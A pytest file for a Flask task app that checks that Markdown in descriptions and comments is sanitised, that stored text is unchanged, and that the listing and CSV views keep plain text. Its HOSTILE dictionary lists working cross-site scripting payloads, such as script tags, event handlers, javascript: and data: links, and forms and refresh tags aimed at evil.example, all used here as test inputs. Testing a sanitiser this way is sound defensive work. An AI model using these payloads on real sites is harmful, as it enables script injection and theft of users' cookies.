"""Markdown in descriptions and comments: CommonMark rendered, then sanitised by an allow-list;
a hostile corpus renders to nothing executable; what is stored never changes; the list and
the CSV keep plain text."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from flask import url_for

from webapp.extensions import db
from webapp.markdown import ATTACHMENT_IMAGE_PATH, render_markdown
from webapp.models import Comment, Task

HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "script in a paragraph": "Hello <script src=https://evil.example/x.js></script> there",
    "event handler": '<img src=x onerror="alert(1)">',
    "svg onload": '<svg onload="alert(1)"><circle r=5 /></svg>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, mixed case and spaces": "[click](  JaVaScRiPt:alert(document.cookie))",
    "javascript link, entity encoded": "[click](jav&#x61;script:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript image": "![x](javascript:alert(1))",
    "outside image": "![tracker](https://evil.example/pixel.png)",
    "nested html": "<div><p><b onclick='alert(1)'>bold</b></p></div>",
    "html block": "<details open ontoggle=alert(1)>\n\n*x*\n\n</details>",
    "style tag": "<style>body{display:none}</style>",
    "link with quotes": '[x](https://example.com/"onmouseover="alert(1))',
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "html comment": "<!-- <script>alert(1)</script> -->",
    "form": "<form action=https://evil.example><input name=password></form>",
    "object": "<object data=x.swf></object><embed src=x.swf>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base tag": '<base href="https://evil.example/">',
    "code with html": "`<script>alert(1)</script>`\n\n```\n<img src=x onerror=alert(1)>\n```",
    "link title": '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
}
ALLOWED_TAGS = {"p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li",
                "h3", "h4", "h5", "h6", "a", "img"}
ALLOWED_ATTRIBUTES = {"href", "title", "src", "alt", "start", "rel"}


class Elements(HTMLParser):
    """The elements a browser would build from the HTML: (tag, attributes)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_inert(html: str, what: str) -> None:
    """Only allowed tags and attributes; no handler; links http(s), mailto or our own paths;
    images only from our attachment routes."""
    for tag, attrs in Elements(html).found:
        assert tag in ALLOWED_TAGS, f"{what}: <{tag}> in {html!r}"
        assert set(attrs) <= ALLOWED_ATTRIBUTES, f"{what}: {attrs} in {html!r}"
        href = (attrs.get("href") or "").strip().lower()
        if href:
            assert href.startswith(("http://", "https://", "mailto:", "/", "#")) or (
                ":" not in href.split("/")[0]), f"{what}: href {href!r}"
            assert attrs.get("rel") == "noopener nofollow ugc", f"{what}: {attrs}"
        if tag == "img":
            assert ATTACHMENT_IMAGE_PATH.fullmatch(attrs.get("src", "")), f"{what}: {attrs}"


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markdown_renders_to_nothing_executable(name):
    html = str(render_markdown(HOSTILE[name]))

    assert_inert(html, name)


def test_hostile_markdown_nested_in_lists_and_quotes_stays_inert():
    nested = "\n".join(f"> - {value}" for value in HOSTILE.values())

    assert_inert(str(render_markdown(nested)), "nested")


def test_raw_html_is_shown_as_text_not_rendered():
    html = str(render_markdown("<div>boxed</div> and <em>typed</em>"))

    assert "&lt;div&gt;boxed&lt;/div&gt;" in html and "<div" not in html
    assert "&lt;em&gt;typed&lt;/em&gt;" in html


def test_commonmark_renders_and_links_get_rel():
    html = str(render_markdown(
        "# Plan\n\n**bold** _it_ `code`\n\n- one\n- two\n\n3. three\n\n> quoted\n\n"
        "[site](https://example.com) <https://auto.example> [mail](mailto:a@example.com)"
    ))

    assert "<h3>Plan</h3>" in html  # the page owns h1 and h2
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<code>code</code>" in html and "<li>one</li>" in html
    assert '<ol start="3">' in html and "<blockquote>" in html
    assert html.count('rel="noopener nofollow ugc"') == 3
    assert '<a href="https://example.com" rel="noopener nofollow ugc">site</a>' in html


def test_line_breaks_typed_are_kept():
    assert "first line<br>" in str(render_markdown("first line\nsecond line"))


def test_images_only_from_our_attachments():
    html = str(render_markdown(
        "![plan](/tasks/3/attachments/7) ![small](/tasks/3/attachments/7/thumbnail) "
        "![out](https://evil.example/x.png) ![rel](../../auth/logout)"
    ))

    assert '<img src="/tasks/3/attachments/7" alt="plan">' in html
    assert '<img src="/tasks/3/attachments/7/thumbnail" alt="small">' in html
    assert html.count("<img") == 2
    assert '<a href="https://evil.example/x.png" rel="noopener nofollow ugc">out</a>' in html


def test_the_attachment_pattern_matches_the_routes(app):
    with app.test_request_context():
        download = url_for("attachments.download", task_id=12, attachment_id=345)
        preview = url_for("attachments.thumbnail", task_id=12, attachment_id=345)

    assert ATTACHMENT_IMAGE_PATH.fullmatch(download)
    assert ATTACHMENT_IMAGE_PATH.fullmatch(preview)
    assert not ATTACHMENT_IMAGE_PATH.fullmatch(download + "/../x")


def test_description_is_rendered_on_the_page_and_stored_as_typed(app, user_client, user,
                                                                 make_task):
    typed = "Steps:\n\n1. **Call** Sam <script>alert(1)</script>\n2. [docs](javascript:x)"
    task_id = make_task(user, "Markdown task", description=typed)

    page = user_client.get(f"/tasks/{task_id}").get_data(as_text=True)

    description = page.split('<div class="description markdown">')[1].split("</div>")[0]
    assert "<ol>" in description and "<strong>Call</strong>" in description
    assert "<script>" not in page.split("</head>")[1].replace(
        '<script src="', "")  # only our own script tags, in the head
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in description
    with app.app_context():
        assert db.session.get(Task, task_id).description == typed


def test_comment_is_stored_as_typed(app, user_client, user, make_task):
    task_id = make_task(user)
    typed = "  keep **this** <b>as typed</b>"

    user_client.form_post(f"/tasks/{task_id}/comments", {"body": typed})
    user_client.get(f"/tasks/{task_id}")

    with app.app_context():
        assert db.session.scalar(sa.select(Comment.body)) == typed.strip()


def test_list_and_csv_keep_plain_text(user_client, user, make_task):
    make_task(user, "**Not bold** in the list", description="*plain* <b>text</b>")

    listing = user_client.get("/tasks").get_data(as_text=True)
    csv = user_client.get("/tasks/export.csv").get_data(as_text=True)

    assert "**Not bold** in the list" in listing and "<strong>Not bold" not in listing
    assert "*plain* <b>text</b>" in csv
